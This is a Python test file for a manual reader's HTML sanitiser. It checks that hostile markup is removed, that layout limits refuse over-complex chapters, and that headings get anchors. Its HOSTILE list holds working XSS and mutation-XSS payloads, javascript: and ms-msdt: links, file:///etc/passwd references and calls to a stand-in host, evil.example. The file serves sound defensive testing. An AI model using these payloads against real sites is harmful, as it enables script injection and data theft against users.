"""Chapter HTML: what is left of it, what is too complex, and its passages. Rows 40 to 44, without the window."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from reader.bundle import limits
from reader.bundle.html import check_layout, passages, readable, sanitise, with_anchors
from reader.domain.contents import Passage
from reader.domain.errors import Reason
from reader.domain.manual import ManualId
from tests.support.opening import reason_of, refused
from tests.support.worlds import CHAPTERS, WESTSHIRE

ALLOWED_ATTRIBUTES = {
    "id", "href", "name", "title", "src", "alt", "width", "height", "colspan", "rowspan", "start", "class",
}  # fmt: skip


def _clean(html: str, manual: ManualId = WESTSHIRE) -> str:
    return sanitise(html, manual)


class _Elements(HTMLParser):
    """Every element and attribute of a text, by an independent reader."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def _assert_harmless(html: str) -> None:
    found = _Elements(html)
    assert not found.tags & {
        "script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "link",
        "meta", "base", "frame", "frameset", "applet", "video", "audio", "source", "template", "noscript",
        "textarea", "select", "title", "head", "body", "html", "xmp", "plaintext", "marquee", "details",
    }  # fmt: skip
    for tag, name, value in found.attributes:
        assert name in ALLOWED_ATTRIBUTES, (tag, name)
        if name == "src":
            assert re.fullmatch(r"manual:westshire/procedures/media/[a-z0-9-]+\.(png|jpg)", value), value
        if name == "href":
            assert re.match(r"#|manual:[a-z]|https?://|mailto:|tel:", value), value
        if name in {"colspan", "rowspan"}:
            assert 1 <= int(value) <= limits.SPAN, value
        if name in {"width", "height"}:
            assert 1 <= int(value) <= limits.IMAGE_SIDE_PIXELS, value


def test_an_honest_chapter_stays_as_it_is() -> None:
    for chapter in CHAPTERS.values():
        assert _clean(chapter) == chapter


HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<style>@import 'http://evil.example/x.css'; p { background: url(file:///etc/passwd) }</style>",
    "<p style=\"background:url('http://evil.example/x')\">x</p>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<base href="http://evil.example/">',
    '<p onclick="alert(1)">x</p>',
    '<p ONMOUSEOVER="alert(1)">x</p>',
    "<img src=x onerror=alert(1)>",
    '<img src="http://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    '<img src="file:///etc/passwd">',
    '<img src="file://server/share/a.png">',
    '<img src="\\\\server\\share\\a.png">',
    '<img src="pixel.png">',
    '<img src="/pixel.png">',
    '<img src="../pixel.png">',
    '<img src="data:image/png;base64,AAAA">',
    '<img src="qrc:/a.png">',
    '<img src=":/a.png">',
    '<img src="manual:eastshire/procedures/media/a.png">',
    '<img src="manual:westshire/procedures/media/../../a.png">',
    '<img src="manual:westshire/procedures/media/a.svg">',
    '<img src="manual:westshire/procedures/media/a.png?x">',
    '<img src="manual:westshire/procedures/media/a.png#x">',
    '<img src="manual:westshire/procedures/media/a.png\n">',
    '<img src="MANUAL:westshire/procedures/media/a.png">',
    '<img srcset="http://evil.example/a.png 2x" src="x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="file:///C:/windows/system32/calc.exe">x</a>',
    '<a href="\\\\server\\share\\run.exe">x</a>',
    '<a href="ms-msdt:/id">x</a>',
    '<a href="search-ms:query=x">x</a>',
    '<a href="smb://server/x">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="relative.html">x</a>',
    '<a href="manual:../../x">x</a>',
    '<a href="manual:westshire/procedures/Home">x</a>',
    '<a href="http://evil.example" target="_blank" rel="opener" ping="http://evil.example">x</a>',
    '<iframe src="http://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="http://evil.example"><input name="a"><button>b</button></form>',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"><use href="http://evil.example#x"/></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- comment --><p>x</p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><p>x</p>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    '<video src="http://evil.example/a.mp4" poster="http://evil.example/a.png"></video>',
    '<table background="http://evil.example/a.png"><tr><td background="file:///a.png">x</td></tr></table>',
    '<body background="http://evil.example/a.png">x</body>',
    '<p class="evil scope">x</p>',
    '<td colspan="5000">x</td><table><tr><td colspan="5000" rowspan="-1">x</td></tr></table>',
    '<table><tr><td colspan="０２">x</td><td colspan="2.5">y</td><td colspan=" 2 ">z</td></tr></table>',
    '<img src="manual:westshire/procedures/media/a.png" width="999999999" height="-5">',
    '<p id="a b">x</p><p id="&quot;onclick=">y</p><p id="-x">z</p>',
    "<a name='x\" onclick=\"alert(1)'>x</a>",
    "\0<p>x</p>\0",
    "<p>\ufeffx\u202ey</p>",
    "<<p>>x<</p>>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]  # fmt: skip


@pytest.mark.parametrize("html", HOSTILE)
def test_what_could_do_harm_is_taken_out(html: str) -> None:
    clean = _clean(f"<h2>Before</h2>{html}")
    _assert_harmless(clean)
    assert "<h2>Before</h2>" in clean
    assert _clean(clean) == clean


@pytest.mark.parametrize(
    "attribute",
    [
        'width="00001999999"',
        'height="0000110000000"',
        'width="000000000000000000005"',
        f'width="1{"0" * 5000}"',
    ],
)
def test_an_image_never_claims_more_than_its_limit(attribute: str) -> None:
    clean = _clean(f'<p><img src="manual:westshire/procedures/media/a.png" {attribute}></p>')
    _assert_harmless(clean)


@pytest.mark.parametrize("span", ["0201", "02000", "0001000", "000110", "0" * 10 + "9" * 10])
def test_a_span_never_claims_more_than_its_limit(span: str) -> None:
    for name in ("colspan", "rowspan"):
        _assert_harmless(_clean(f'<table><tbody><tr><td {name}="{span}">x</td></tr></tbody></table>'))


@pytest.mark.parametrize("tag", ["td", "th"])
@pytest.mark.parametrize("name", ["colspan", "rowspan"])
def test_a_span_of_thousands_of_digits_raises_nothing_but_a_refusal(tag: str, name: str) -> None:
    html = f'<table><tbody><tr><{tag} {name}="0001{"9" * 5000}">x</{tag}></tr></tbody></table>'
    clean = _clean(html)
    assert reason_of(lambda: check_layout(clean)) in {None, Reason.CHAPTER_TOO_COMPLEX}


@pytest.mark.parametrize(
    "html",
    [
        '<a href="#before-the-visit">x</a>',
        '<a href="manual:eastshire/procedures/home-visits">x</a>',
        '<a href="manual:eastshire/procedures/home-visits@3#before">x</a>',
        '<a href="manual:eastshire/procedures">x</a>',
        '<a href="https://example.org/a?b=c#d">x</a>',
        '<a href="http://example.org">x</a>',
        '<a href="mailto:duty@example.org">x</a>',
        '<a href="tel:+441000000000">x</a>',
        '<a name="old-anchor" title="Old">x</a>',
        '<p class="note">x</p>',
        '<div class="scope">x</div>',
        '<ol start="3"><li>x</li></ol>',
        '<abbr title="Independent Reviewing Officer">IRO</abbr>',
        (
            '<table class="forms"><caption>c</caption><thead><tr><th colspan="200">h</th></tr></thead>'
            '<tbody><tr><td rowspan="2">d</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>'
        ),
        '<img src="manual:westshire/procedures/media/flow-1.jpg" alt="Flow" width="10000" height="1">',
        "<dl><dt>a</dt><dd>b</dd></dl><blockquote><pre><code>c</code></pre></blockquote><hr>",
        "<p>a<br>b<sub>c</sub><sup>d</sup><small>e</small><u>f</u><s>g</s><cite>h</cite></p>",
    ],
)
def test_what_a_chapter_needs_is_kept(html: str) -> None:
    assert _clean(html) == html


def test_nothing_is_shown_of_a_picture_from_elsewhere() -> None:
    """Of a picture without an address Qt asks the disk for a file without a name."""
    html = '<p>a<img src="file:///etc/a.png" alt="x" width="5">b<img>c<img alt=" src=&quot;">d</p>'
    assert readable(html.encode(), WESTSHIRE) == "<p>abcd</p>"
    good = '<p><img alt="x" src="manual:westshire/procedures/media/a.png"></p>'
    assert "manual:" in readable(good.encode(), WESTSHIRE)


_pieces = st.sampled_from(
    [
        "<p>", "</p>", "<div>", "</div>", "<table>", "</table>", "<tr>", "<td>", "</td>", "<th colspan=3>",
        "<b>", "</b>", "<i>", "</i>", "<a href='#x'>", "</a>", "<h2>", "</h2>", "<h3 id='x'>", "</h3>",
        "<ul>", "<li>", "</ul>", "<ol start=5>", "</ol>", "<pre>", "</pre>", "<br>", "<hr>", "<!--", "-->",
        "<script>", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<math>", "<mtext>", "<mglyph>",
        "<title>", "</title>", "<template>", "</template>", "<noscript>", "<form>", "<input>", "<select>",
        "<option>", "<textarea>", "<iframe>", "<plaintext>", "<xmp>", "<caption>", "<col>", "<tbody>",
        "<dl>", "<dt>", "<dd>", "<img src='x' onerror='y'>", "<p onclick='x' class='note evil'>",
        "<a href='javascript:x'>", "&lt;", "&amp;", "&#60;script&#62;", "&nbsp;", '"', "'", "<", ">", "=",
        "text", " ", "\n", "\0", "é", "\u202e", "<foreignobject>", "<annotation-xml>", "]]>", "<![CDATA[",
    ]
)  # fmt: skip


@settings(deadline=None, max_examples=400)
@given(st.lists(_pieces | st.text(max_size=6), max_size=25).map("".join))
@example("<table><td><p>x</table>y")
@example("<pre>\n\nx</pre>")
@example("<p><table></p>")
@example("<h2><div><h2>-->")
def test_a_second_cleaning_changes_nothing_and_nothing_harmful_is_left(html: str) -> None:
    clean = _clean(html)
    _assert_harmless(clean)
    assert _clean(clean) == clean
    check_layout(clean)
    anchored = with_anchors(clean)
    assert _clean(anchored) == anchored
    assert [(p.level, p.heading, p.text) for p in passages(anchored)] == [
        (p.level, p.heading, p.text) for p in passages(clean)
    ]
    assert all(passage.anchor for passage in passages(anchored) if passage.level)


# Layout limits, each at its limit and one over


def _cells(count: int) -> str:
    return "<table><tbody><tr>" + "<td>x</td>" * count + "</tr></tbody></table>"


def _nested(tag: str, depth: int) -> str:
    return f"<{tag}>" * depth + "x" + f"</{tag}>" * depth


def _nested_tables(depth: int) -> str:
    opening, closing = "<table><tbody><tr><td>", "</td></tr></tbody></table>"
    return opening * depth + "x" + closing * depth


LIMITS = {
    "table nesting": (_nested_tables, limits.TABLE_NESTING, "tables are nested"),
    "cells of a table": (_cells, limits.TABLE_CELLS, "a table has more than"),
    "cells of a chapter": (
        lambda n: _cells(n // 3) + _cells(n // 3) + _cells(n - n // 3 * 2),
        limits.CHAPTER_CELLS,
        "its tables have more than",
    ),
    "depth": (lambda n: _nested("div", n), limits.ELEMENT_DEPTH, "nested more than 48 deep"),
    "inline depth": (lambda n: "<p>" + _nested("b", n - 1) + "</p>", limits.ELEMENT_DEPTH, "deep"),
    "paragraph": (
        lambda n: f"<p>{('word ' * (n // 5 + 1))[:n]}</p>",
        limits.PARAGRAPH_CHARACTERS,
        "a paragraph is longer",
    ),
    "paragraph in pieces": (
        lambda n: "<p>" + "<b>ab </b>" * (n // 3) + "x" * (n % 3) + "</p>",
        limits.PARAGRAPH_CHARACTERS,
        "a paragraph is longer",
    ),
    "word": (lambda n: f"<p>a {'x' * n} b</p>", limits.WORD_CHARACTERS, "a word is longer"),
    "word in pieces": (
        lambda n: f"<p>{'<b>x</b>' * n}</p>",
        limits.WORD_CHARACTERS,
        "a word is longer",
    ),
    "word of entities": (lambda n: f"<p>{'&amp;' * n}</p>", limits.WORD_CHARACTERS, "a word is longer"),
    "elements": (lambda n: "<br>" * n, limits.TAGS, "elements"),
    "images": (
        lambda n: '<img src="manual:westshire/procedures/media/a.png">' * n,
        limits.IMAGES,
        "more than 200 images",
    ),
}


@pytest.mark.parametrize("name", list(LIMITS))
def test_a_chapter_at_a_layout_limit_is_shown_and_one_over_it_is_not(name: str) -> None:
    make, limit, words = LIMITS[name]
    at_limit, over = _clean(make(limit)), _clean(make(limit + 1))
    check_layout(at_limit)
    with refused(Reason.CHAPTER_TOO_COMPLEX, words, "Tell the authority"):
        check_layout(over)


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000,
        "<div></b>" * 50_000,
        "<div><!--</div>-->" * 50_000,
        "<div><br title='</div>'>" * 50_000,
        "<unknown></other>" * 50_000,
        "<DIV></B>" * 50_000,
        "<div ></b >" * 50_000,
        "<div>x</p>" * 50_000,
    ],
    ids=lambda html: html[:24],
)
def test_a_chapter_nested_beyond_measure_is_refused_before_it_is_cleaned(
    html: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Cleaning takes time that grows with the square of the depth: minutes for 200,000 levels in 2 MiB."""

    def no_cleaning(*_: object, **__: object) -> None:
        raise AssertionError("it was given to the cleaner")

    monkeypatch.setattr(nh3, "clean", no_cleaning)
    with refused(Reason.CHAPTER_TOO_COMPLEX, "nested"):
        _clean(html)


def test_honest_chapters_that_leave_elements_open_are_cleaned() -> None:
    rows = "<tr><td>a<td>b" * 500
    items = "<li>a<p>b" * 500
    terms = "<dt>a<dd>b" * 500
    clean = _clean(f"<table>{rows}</table><ul>{items}</ul><dl>{terms}</dl>" + "<p>c<br><hr>" * 500)
    check_layout(clean)
    assert clean.count("</td>") == clean.count("</li>") * 2 == clean.count("</dd>") * 2 == 1_000


def test_spans_count_as_the_cells_that_they_cover() -> None:
    wide = '<table><tbody><tr><td colspan="200" rowspan="30">x</td></tr></tbody></table>'
    check_layout(_clean(wide))
    with refused(Reason.CHAPTER_TOO_COMPLEX):
        check_layout(_clean(wide.replace('"30"', '"31"')))


def test_a_table_of_five_thousand_rows_is_too_complex() -> None:
    rows = "<tr><td>a</td><td>b</td><td>c</td></tr>" * 5_000
    with refused(Reason.CHAPTER_TOO_COMPLEX, "6,000 cells"):
        check_layout(_clean(f"<table><tbody>{rows}</tbody></table>"))


def test_a_word_joined_by_spaces_that_do_not_break_is_one_word() -> None:
    joined = "\u00a0".join(["x" * 9] * (limits.WORD_CHARACTERS // 5))
    with refused(Reason.CHAPTER_TOO_COMPLEX, "a word is longer"):
        check_layout(_clean(f"<p>{joined}</p>"))


@settings(deadline=None, max_examples=100)
@given(st.text(max_size=200))
def test_measuring_any_text_raises_nothing_but_a_refusal(html: str) -> None:
    assert reason_of(lambda: check_layout(html)) in {None, Reason.CHAPTER_TOO_COMPLEX}
    assert reason_of(lambda: check_layout(_clean(html))) in {None, Reason.CHAPTER_TOO_COMPLEX}


# Passages and anchors


def test_passages_are_the_parts_under_the_headings() -> None:
    html = (
        "<p>Lead&nbsp;text.</p><h2 id='a'>First <b>part</b></h2><p>One.</p><ul><li>two</li><li>three</li></ul>"
        "<h3>Second</h3><table><tbody><tr><td>four</td><td>five</td></tr></tbody></table>"
    )
    assert passages(_clean(html)) == (
        Passage(None, "", 0, "Lead text."),
        Passage("a", "First part", 2, "One. two three"),
        Passage(None, "Second", 3, "four five"),
    )


def test_a_chapter_without_headings_is_one_passage() -> None:
    assert passages("<p>a</p><p>b</p>") == (Passage(None, "", 0, "a b"),)
    assert passages("") == ()


def test_every_heading_gets_an_anchor_of_its_own() -> None:
    html = _clean('<h2>Aims</h2><h2>Aims</h2><h3 id="aims-2">x</h3><h2>!</h2><h2><em>Aims</em></h2><h2></h2>')
    anchors = [passage.anchor for passage in passages(with_anchors(html)) if passage.level]
    assert anchors == ["aims", "aims-3", "aims-2", "passage", "aims-4"]
    everything = re.findall(r'id="([^"]*)"', with_anchors(html))
    assert len(set(everything)) == len(everything)


def test_anchors_that_are_there_stay() -> None:
    html = CHAPTERS["home-visits"]
    assert with_anchors(html) == html
